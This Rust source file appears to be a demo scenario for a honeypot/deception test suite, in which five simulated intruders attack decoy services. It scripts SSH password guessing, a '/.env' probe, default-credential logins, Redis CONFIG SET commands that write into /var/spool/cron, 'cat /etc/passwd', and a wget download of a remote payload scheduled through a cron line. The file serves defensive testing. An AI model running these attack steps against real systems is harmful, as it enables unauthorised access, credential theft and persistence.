//! The intrusion of the demo: five people from five addresses, each after something else.

use std::net::Ipv4Addr;

use anyhow::{Context, Result, bail};
use decnet_tests::{intruder::Intruder, stack::Target};

use crate::scene::{Ground, Scene};

/// Breaks in and returns the addresses that did.
pub(crate) async fn play(scene: &Scene, targets: &[Target]) -> Result<Vec<Ipv4Addr>> {
    let with = |service: &str| {
        targets.iter().filter(|t| t.services.iter().any(|s| s == service)).collect::<Vec<_>>()
    };
    let (shells, sites, caches, mailboxes) = (with("ssh"), with("http"), with("redis"), with("imap"));
    let people = (1..=5).map(|n| scene.intruder(n)).collect::<Result<Vec<_>>>()?;
    let [scanner, guesser, reader, cracker, insider] = &people[..] else { bail!("five people") };
    for site in &sites {
        scanner.curl(site, "/", &["--user-agent", "Mozilla/5.0 zgrab/0.x"]).await?;
        scanner.curl(site, "/.env", &[]).await?;
    }
    let shell = shells.first().context("no ssh in the fleet")?;
    for password in ["123456", "toor", "Passw0rd"] {
        guesser.ssh(shell, "root", password, "id").await?;
    }
    let mailbox = mailboxes.first().context("no imap in the fleet")?;
    let (login, password) = mailbox.accounts.first().context("no planted account")?;
    reader.imap(mailbox, login, "letmein").await?;
    reader.imap(mailbox, login, password).await?;
    let site = sites.first().context("no http in the fleet")?;
    cracker.log_in(site, "admin", "admin").await?;
    let commands = ["INFO server", "KEYS *", "CONFIG SET dir /var/spool/cron", "CONFIG SET dbfilename root"];
    for cache in &caches {
        match scene {
            Scene::Lan(_) => drop(cracker.redis_lines(cache, &commands).await?),
            Scene::Loopback(_) => drop(cracker.redis(cache, &commands).await?),
        }
    }
    let (login, password) = shell.accounts.first().context("no planted account")?;
    insider.ssh(shell, login, password, "uname -a; cat /etc/passwd").await?;
    if let Scene::Lan(ground) = scene {
        land(ground, insider, shell, (login, password)).await?;
    }
    Ok(people.iter().map(|one| one.ip).collect())
}

/// A terminal, tools that are brought along, and an attempt to fetch more.
async fn land(ground: &Ground, insider: &Intruder, shell: &Target, account: (&str, &str)) -> Result<()> {
    let seat = ground.seat(insider.ip).context("the insider's seat")?;
    let folder = tempfile::tempdir()?;
    let tool = folder.path().join("scan.sh");
    std::fs::write(&tool, "#!/bin/sh\nfor n in $(seq 1 254); do ping -c1 -W1 198.51.100.$n; done\n")?;
    let sent = seat.scp(shell.ip, account, &tool.to_string_lossy(), "/tmp/scan.sh", false).await?;
    if sent.code != Some(0) {
        println!("demo: scp ended with {:?}: {}", sent.code, sent.stderr.trim());
    }
    let fetch = format!("wget -T 2 -t 1 -O /tmp/x http://{}/x", ground.lan.host(200 % 64));
    let typed = ["w", "cd /tmp && chmod +x scan.sh && ls -la", &fetch, "echo '* * * * * /tmp/x' > /tmp/cron"];
    let shown = seat.terminal(shell.ip, account.0, account.1, &typed).await?;
    println!("demo: what the insider saw:");
    for line in shown.stdout.lines() {
        println!("  | {}", plain(line));
    }
    Ok(())
}

/// A line without its terminal's sequences: what was typed there is as good as hostile, and moves nothing here.
fn plain(line: &str) -> String {
    let mut parts = line.split("\u{1b}[");
    let head = parts.next().unwrap_or_default().to_owned();
    let text = parts.fold(head, |text, part| {
        let end = part.find(|c: char| ('@'..='~').contains(&c)).map_or(part.len(), |end| end + 1);
        text + part.get(end..).unwrap_or_default()
    });
    text.chars().filter(|c| !c.is_control()).collect()
}
